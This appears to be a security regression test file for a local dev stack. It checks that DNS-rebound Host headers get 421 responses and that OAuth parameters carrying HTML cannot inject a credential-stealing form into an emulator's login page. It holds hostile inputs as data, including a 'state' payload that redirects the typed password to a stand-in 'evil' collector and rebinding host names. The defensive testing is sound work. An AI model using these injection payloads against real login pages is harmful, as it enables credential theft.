// Attacks on `npm start` from web pages the developer visits (attacker review, issue 29): a page
// whose DNS name is rebound to 127.0.0.1 calls the dev API with the demo users' printed passwords,
// and a link writes a second form into the emulator's Hosted UI login page. Each test fails on the
// code before its fix.
import assert from "node:assert/strict";
import { createServer, request, type IncomingHttpHeaders, type Server } from "node:http";
import { connect } from "node:net";
import { after, before, describe, it } from "node:test";
import { DescribeUserPoolClientCommand } from "@aws-sdk/client-cognito-identity-provider";
import type { Browser } from "playwright-core";
import { randomState } from "openid-client";
import { DEMO_USERS } from "../src/cognito/bootstrap.ts";
import { createCognitoClient } from "../src/cognito/client.ts";
import { ConfigError } from "../src/config.ts";
import { devApiConfig } from "../src/dev/api-config.ts";
import { launchChromium, requiresChromium } from "./support/browser.ts";
import { startDevStack, type DevStack } from "./support/dev-stack.ts";
import { issuerAndServer } from "./support/server.ts";

const admin = DEMO_USERS.find((u) => u.groups.includes("admin"))!;
const member = DEMO_USERS.find((u) => u.groups.length === 0)!;

interface Answer {
  status: number;
  headers: IncomingHttpHeaders;
  text: string;
}

/** One request with the Host header as given (fetch would send the URL's). */
function send(base: string, method: string, path: string, headers: Record<string, string>, body?: string): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const req = request(base, { method, path, headers }, (res) => {
      let text = "";
      res.setEncoding("utf8").on("data", (chunk: string) => (text += chunk));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, text }));
    });
    req.on("error", reject).end(body);
  });
}

/** Raw bytes on a socket (no Host, absolute-form targets): the status code answered. */
function sendRaw(port: number, text: string): Promise<number> {
  return new Promise((resolve, reject) => {
    let answer = "";
    const socket = connect(port, "127.0.0.1", () => socket.end(text));
    socket.setEncoding("utf8").on("data", (chunk: string) => (answer += chunk));
    socket.on("error", reject).on("close", () => resolve(Number(/^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1] ?? 0)));
  });
}

function assertMisdirected(answer: Answer, what: string): void {
  assert.equal(answer.status, 421, `${what}: ${answer.status} ${answer.text.slice(0, 200)}`);
  assert.match(String(answer.headers["content-type"]), /^application\/problem\+json/, what);
  assert.equal((JSON.parse(answer.text) as { code: string }).code, "misdirected_request", what);
  assert.equal(answer.headers["content-security-policy"], "default-src 'none'; frame-ancestors 'none'", what);
  assert.equal(answer.headers["x-content-type-options"], "nosniff", what);
  assert.equal(answer.headers["cache-control"], "no-store", what);
  assert.ok(answer.headers["x-request-id"], what);
  assert.equal(answer.headers["access-control-allow-origin"], undefined, what);
}

describe("the dev stack against web pages", () => {
  let stack: DevStack;
  let api: string;
  let port: number;
  const login = (host: string, user = admin) =>
    send(api, "POST", "/api/v1/auth/login", { host, "content-type": "application/json" }, JSON.stringify({ username: user.username, password: user.password }));

  before(async () => {
    stack = await startDevStack("dev-stack-attacks");
    api = stack.server.url;
    port = Number(new URL(api).port);
  });
  after(async () => {
    await stack?.stop();
  });

  describe("DNS rebinding: the dev API answers only to its loopback names", () => {
    it("a rebound name signing in as the printed admin gets 421, no tokens, and no profiles with a stolen token either", async () => {
      const rebound = `rebind.attacker.example:${port}`;
      const refused = await login(rebound);
      assertMisdirected(refused, "login");
      assert.ok(!refused.text.includes("access_token"));
      // The names `npm start` prints and the CLI uses still work.
      const signedIn = await login(`localhost:${port}`);
      assert.equal(signedIn.status, 200, signedIn.text);
      const token = (JSON.parse(signedIn.text) as { access_token: string }).access_token;
      assertMisdirected(await send(api, "GET", "/api/v1/users", { host: rebound, authorization: `Bearer ${token}` }), "users");
      for (const host of [`localhost:${port}`, `127.0.0.1:${port}`, `[::1]:${port}`]) {
        assert.equal((await send(api, "GET", "/api/v1/users", { host, authorization: `Bearer ${token}` })).status, 200, host);
      }
      // The printed copy-paste line: curl … http://localhost:8000/api/v1/me.
      assert.equal((await fetch(`http://localhost:${port}/api/v1/me`, { headers: { authorization: `Bearer ${token}` } })).status, 200);
    });

    it("every route and every answer: /admin, /healthz, 404s, CORS preflights, paths refused before routing", async () => {
      const foreign = [`rebind.attacker.example:${port}`, "localhost", `localhost:${port + 1}`, `localhost.:${port}`, `127.0.0.2:${port}`];
      const requests: [string, string, Record<string, string>][] = [
        ["GET", "/admin", {}],
        ["GET", "/admin/config.json", {}],
        ["GET", "/healthz", {}],
        ["GET", "/readyz", {}],
        ["GET", "/api/schema/", {}],
        ["GET", "/no/such/route", {}],
        ["OPTIONS", "/api/v1/users", { origin: "http://localhost:5173", "access-control-request-method": "GET" }],
        ["GET", "/api/v1/users/%zz", {}],
      ];
      for (const host of foreign) {
        for (const [method, path, headers] of requests) assertMisdirected(await send(api, method, path, { host, ...headers }), `${method} ${path} Host ${host}`);
      }
      assert.equal((await send(api, "GET", "/healthz", { host: `LocalHost:${port}` })).status, 200, "host names have no case");
    });

    it("a request with no Host (HTTP/1.0) or an absolute-form target naming another host gets 421", async () => {
      assert.equal(await sendRaw(port, "GET /healthz HTTP/1.0\r\n\r\n"), 421, "no Host");
      assert.equal(await sendRaw(port, `GET http://evil.example/healthz HTTP/1.1\r\nHost: localhost:${port}\r\nConnection: close\r\n\r\n`), 421);
      assert.equal(await sendRaw(port, `GET http://localhost:${port}@evil.example/healthz HTTP/1.1\r\nHost: localhost:${port}\r\nConnection: close\r\n\r\n`), 421);
      assert.equal(await sendRaw(port, `GET http://evil.example/healthz HTTP/1.0\r\n\r\n`), 421);
      assert.equal(await sendRaw(port, `GET http://localhost:${port}/healthz HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`), 421);
      assert.equal(await sendRaw(port, `GET http://localhost:${port}/healthz HTTP/1.1\r\nHost: localhost:${port}\r\nConnection: close\r\n\r\n`), 200);
      assert.equal(await sendRaw(port, `GET /healthz HTTP/1.0\r\nHost: 127.0.0.1:${port}\r\n\r\n`), 200);
    });

    it("the emulator's front judges the same way (one function): no Host, or an absolute-form target naming another host, gets 421", async () => {
      const cognitoPort = Number(new URL(stack.emulator.url).port);
      assert.equal(await sendRaw(cognitoPort, "GET /health HTTP/1.0\r\n\r\n"), 421);
      assert.equal(await sendRaw(cognitoPort, `GET http://evil.example/${stack.userPoolId}/.well-known/jwks.json HTTP/1.1\r\nHost: localhost:${cognitoPort}\r\nConnection: close\r\n\r\n`), 421);
      assert.equal(await sendRaw(cognitoPort, `GET /${stack.userPoolId}/.well-known/jwks.json HTTP/1.1\r\nHost: localhost:${cognitoPort}\r\nConnection: close\r\n\r\n`), 200);
    });

    it("ALLOWED_HOSTS adds names to the dev stack's own; a malformed one is a configuration error", () => {
      const cognito = { endpoint: "http://localhost:9229", userPoolId: "local_abc", clientIds: ["backend"] };
      assert.deepEqual(devApiConfig({}, 8000, "/tmp/x", cognito).allowedHosts, ["localhost:8000", "127.0.0.1:8000", "[::1]:8000"]);
      assert.deepEqual(devApiConfig({ ALLOWED_HOSTS: "Dev.Example.Test:8000" }, 8000, "/tmp/x", cognito).allowedHosts.slice(3), ["dev.example.test:8000"]);
      assert.throws(() => devApiConfig({ ALLOWED_HOSTS: "http://dev.example.test" }, 8000, "/tmp/x", cognito), ConfigError);
    });
  });

  describe("npm run serve: any Host unless ALLOWED_HOSTS says otherwise", () => {
    const { app: open } = issuerAndServer();
    const { app: listed } = issuerAndServer(undefined, { env: { ALLOWED_HOSTS: "api.example.org, 10.0.3.7:8000, [fd00::7]:8000" } });

    it("answers a load balancer's or probe's Host by default, and only the listed ones with ALLOWED_HOSTS", async () => {
      for (const host of ["10.0.3.7:8000", "api.example.org", "anything.example"]) assert.equal((await send(open.url, "GET", "/healthz", { host })).status, 200, host);
      assert.equal(await sendRaw(Number(new URL(open.url).port), "GET /healthz HTTP/1.0\r\n\r\n"), 200, "no Host, no list");
      for (const host of ["api.example.org", "API.example.org:443", "10.0.3.7:8000", "[fd00::7]:8000"]) {
        assert.equal((await send(listed.url, "GET", "/healthz", { host })).status, 200, host);
      }
      for (const host of ["evil.example", "10.0.3.7:8001", "10.0.3.7", "api.example.org.evil.example", "[fd00::7]"]) {
        assertMisdirected(await send(listed.url, "GET", "/readyz", { host }), host);
      }
    });
  });

  describe("the Hosted UI's login page", () => {
    let cognito: ReturnType<typeof createCognitoClient>;
    let collector: Server;
    let collected: string[];
    let evil: string;
    before(async () => {
      cognito = createCognitoClient({ region: "us-east-1", endpoint: stack.emulator.url, useDummyCredentials: true }, { maxAttempts: 1 });
      collected = [];
      collector = createServer((req, res) => {
        collected.push(`${req.method} ${req.url}`);
        res.end("thanks");
      });
      await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
      evil = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
    });
    after(async () => {
      cognito?.destroy();
      collector?.closeAllConnections();
      await new Promise((resolve) => collector?.close(resolve));
    });

    const CALLBACK = "http://localhost:5173/";
    const authorize = (params: Record<string, string>, extra = "") => {
      const query = new URLSearchParams({ client_id: stack.webClientId, redirect_uri: CALLBACK, response_type: "code", code_challenge: "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", code_challenge_method: "S256", ...params });
      return `${stack.emulator.url}/oauth2/authorize?${query}${extra}`;
    };
    /** A link whose state ends the login form and opens one that posts to the collector. */
    const injectedState = () => `"></form><form method="POST" action="${evil}/collect"><input type="hidden" name="x" value="`;

    it("refuses a link whose parameters would write HTML into the page, GET and POST alike; real clients' states pass", async () => {
      for (const [params, extra, name] of [
        [{ state: injectedState() }, "", "state"],
        [{ state: "ok" }, `&state=${encodeURIComponent('"><b>')}`, "state"],
        [{ scope: 'openid"><form action="https://evil.example/">' }, "", "scope"],
        [{ code_challenge: "<x>".padEnd(43, "a") }, "", "code_challenge"],
        [{ state: "a&amp;b" }, "", "state"],
        [{ state: "caf\u00e9" }, "", "state"],
      ] as const) {
        const res = await fetch(authorize(params, extra));
        assert.equal(res.status, 400, `${JSON.stringify(params)}${extra}`);
        const body = (await res.json()) as { error: string; error_description: string };
        assert.equal(body.error, "invalid_request");
        assert.match(body.error_description, new RegExp(`^${name} `));
      }
      // After a wrong password the engine writes the posted values back into the page.
      const posted = await fetch(`${stack.emulator.url}/oauth2/authorize`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({ client_id: stack.webClientId, redirect_uri: CALLBACK, response_type: "code", code_challenge: "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", code_challenge_method: "S256", state: injectedState(), username: member.username, password: "wrong" }),
      });
      assert.equal(posted.status, 400);
      assert.ok(!(await posted.text()).includes(evil));
      // Amplify's (alphanumeric, then its custom state in hex), openid-client's (base64url), base64.
      for (const state of [`${"aZ09".repeat(8)}-${Buffer.from("/projects?x=1").toString("hex")}`, randomState(), "a+b/c==", "with space"]) {
        const page = await fetch(authorize({ state }));
        assert.equal(page.status, 200, state);
        assert.ok((await page.text()).includes(`name="state" value="${state}"`), state);
      }
    });

    it("its form leads only to the emulator and the client's own callback origins", async () => {
      const callbacks = async (clientId: string) =>
        (await cognito.send(new DescribeUserPoolClientCommand({ UserPoolId: stack.userPoolId, ClientId: clientId }))).UserPoolClient!.CallbackURLs!;
      const formAction = async (url: string) => /form-action ([^;]*)/.exec((await fetch(url)).headers.get("content-security-policy") ?? "")?.[1];
      const webOrigins = [...new Set((await callbacks(stack.webClientId)).map((url) => new URL(url).origin))];
      assert.ok(webOrigins.includes("http://localhost:5173"), webOrigins.join());
      assert.equal(await formAction(authorize({ state: "s" })), ["'self'", ...webOrigins].join(" "));
      const backend = (await callbacks(stack.clientId))[0]!;
      assert.equal(await formAction(authorize({ client_id: stack.clientId, redirect_uri: backend, state: "s" })), `'self' ${new URL(backend).origin}`);
      assert.equal(await formAction(`${stack.emulator.url}/${stack.userPoolId}/.well-known/jwks.json`), "'self'");
    });

    describe("in Chromium", requiresChromium(), () => {
      let browser: Browser;
      before(async () => {
        browser = await launchChromium();
      });
      after(async () => {
        await browser?.close();
      });

      it("a password typed into an injected login page reaches no other site; a form made to post elsewhere is blocked; sign-in reaches the callback", async () => {
        const context = await browser.newContext();
        try {
          const page = await context.newPage();
          collected.length = 0;
          // The attack: the developer opens the link and signs in as the page asks.
          const answer = await page.goto(authorize({ state: injectedState() }));
          if (await page.$("input[type=password]")) {
            await page.fill("input[name=username]", admin.username);
            await page.fill("input[name=password]", admin.password);
            await page.click("button[type=submit]");
            await page.waitForLoadState();
          }
          assert.deepEqual(collected, [], "the typed password was posted to the collector");
          assert.equal(answer?.status(), 400);
          // Whatever else gets into the page: its form posts only to the emulator and the callbacks.
          await page.goto(authorize({ state: "s" }));
          const violation = page.waitForEvent("console", { predicate: (m) => /form-action/.test(m.text()), timeout: 3000 }).catch(() => undefined);
          await page.evaluate((action) => {
            const form = document.querySelector("form")!;
            form.action = action;
            form.submit();
          }, `${evil}/collect`);
          assert.ok(await violation, "Chromium reported no form-action violation");
          assert.deepEqual(collected, [], "a form made to post elsewhere reached the collector");
          // Sign-in itself: the form's POST is redirected to the callback (CSP3 holds redirects to form-action too).
          await page.goto(authorize({ state: "the-state" }));
          await page.fill("input[name=username]", member.username);
          await page.fill("input[name=password]", member.password);
          // Nothing listens there: the request leaving for it is what CSP would have stopped.
          const [reached] = await Promise.all([page.waitForRequest((r) => r.url().startsWith(CALLBACK), { timeout: 5000 }), page.click("button[type=submit]")]);
          const callback = new URL(reached.url());
          assert.equal(callback.searchParams.get("state"), "the-state");
          assert.ok(callback.searchParams.get("code"));
        } finally {
          await context.close();
        }
      });
    });
  });
});
